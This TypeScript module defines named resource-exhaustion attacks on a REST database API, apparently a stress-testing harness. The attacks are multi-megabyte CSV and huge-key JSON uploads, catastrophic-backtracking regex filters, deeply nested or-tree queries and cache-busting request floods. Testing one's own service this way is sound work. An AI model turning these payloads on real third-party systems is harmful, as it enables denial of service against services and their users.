import { randomBytes } from 'node:crypto';

/** One request of an attack. */
export interface AttackRequest {
  readonly method: 'GET' | 'POST';
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: Buffer;
}

export interface Attack {
  /** Requests per second; without it each connection sends the next one after a response. */
  readonly perSecond?: number;
  /** Number of connections; default 16. */
  readonly connections?: number;
  /** Prepares a run; the returned function makes request number `n`. */
  readonly prepare: (tokens: AttackTokens) => (n: number) => AttackRequest;
}

/** Bearer tokens of the attacker. */
export interface AttackTokens {
  readonly anon: string;
  readonly member: string;
  readonly memberId: string;
  readonly memberEmail: string;
}

const megabyte = 1024 * 1024;
const keys = 800_000;

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

function csvOf(bytes: number, { memberId, memberEmail }: AttackTokens): Buffer {
  const row = `${memberId},${memberEmail},login,true\n`;
  const rows = Math.floor((bytes - 100) / row.length);
  return Buffer.from(`user_id,email,event,success\n${row.repeat(rows)}`);
}

function manyKeys(): Buffer {
  const members = Array.from({ length: keys }, (_, index) => `"${index.toString(36)}":1`);
  return Buffer.from(`{${members.join(',')}}`);
}

function post(
  role: 'anon' | 'member',
  type: string,
  make: (tokens: AttackTokens) => Buffer,
): Attack {
  return {
    connections: 4,
    prepare(tokens) {
      const body = make(tokens);
      const headers = { ...bearer(tokens[role]), 'content-type': type };
      return () => ({ method: 'POST', path: '/rest/v1/bkk_login_logs', headers, body });
    },
  };
}

function read(filter: (n: number) => string): Attack {
  return {
    prepare:
      ({ anon }) =>
      (n) => ({
        method: 'GET',
        path: `/rest/v1/bkk_airline_news?select=id&${filter(n)}`,
        headers: bearer(anon),
      }),
  };
}

/** Patterns without back references that are expensive to compile or run; `n` bypasses caches. */
const costlyPatterns = (n: number): readonly string[] => [
  `(.{0,250}[a-z]){0,8}z${String(n)}`,
  `(a|b|c|.){1,100}.{1,100}y${String(n)}`,
  `((((x?){0,9}){0,9}){0,9}){0,9}${String(n)}`,
  `(?=.*a)(?=.*b)(?=.*c)(?=.*d)(.*e.*){1,20}${String(n)}`,
  `(.+)(.+)(.+)(.+)(.+)(.+)q${String(n)}`,
];

function costlyPattern(n: number): string {
  const patterns = costlyPatterns(n);
  return `excerpt=match.${encodeURIComponent(patterns[n % patterns.length] ?? '')}`;
}

/** As many conditions as fit into Node's limit of 16 kB for headers. */
function wideTree(n: number): string {
  const leaf = (index: number) =>
    `and(title.ilike.*${String(n)}a*b*,excerpt.ilike.*${String(index)}c*d*)`;
  return `or=(${Array.from({ length: 220 }, (_, index) => leaf(index)).join(',')})`;
}

const deepTree = (n: number): string =>
  `and=(${'or('.repeat(45)}${Array.from({ length: 300 }, (_, index) => `title.imatch.a.*b.*c${String(n + index)}`).join(',')}${')'.repeat(46)}`;

function unseen(folder: string, perSecond?: number): Attack {
  return {
    ...(perSecond !== undefined && { perSecond }),
    prepare() {
      const run = randomBytes(4).toString('hex');
      return (n) => ({ method: 'GET', path: `/${folder}/${run}-${String(n)}` });
    },
  };
}

export const attacks = {
  'CSV of 8 MB, anon': post('anon', 'text/csv', (tokens) => csvOf(8 * megabyte, tokens)),
  'CSV of 1 MB, anon': post('anon', 'text/csv', (tokens) => csvOf(megabyte, tokens)),
  '800,000 keys, anon': post('anon', 'application/json', manyKeys),
  'CSV of 8 MB, member': post('member', 'text/csv', (tokens) => csvOf(8 * megabyte, tokens)),
  'CSV of 1 MB, member': post('member', 'text/csv', (tokens) => csvOf(megabyte, tokens)),
  '800,000 keys, member': post('member', 'application/json', manyKeys),
  'back references': read(
    () => `excerpt=match.${encodeURIComponent('(.+)(.+)(.+)(.+)\\4\\3\\2\\1')}`,
  ),
  'costly patterns': read(costlyPattern),
  'wide or-trees': read(wideTree),
  'deep or-trees': read(deepTree),
  'unseen products, 50/s': unseen('product', 50),
  'unseen bookings, 50/s': unseen('booking', 50),
  'unseen products': unseen('product'),
  'unseen bookings': unseen('booking'),
  'plain reads': read((n) => `limit=5&offset=${String(n % 7)}`),
} as const satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;
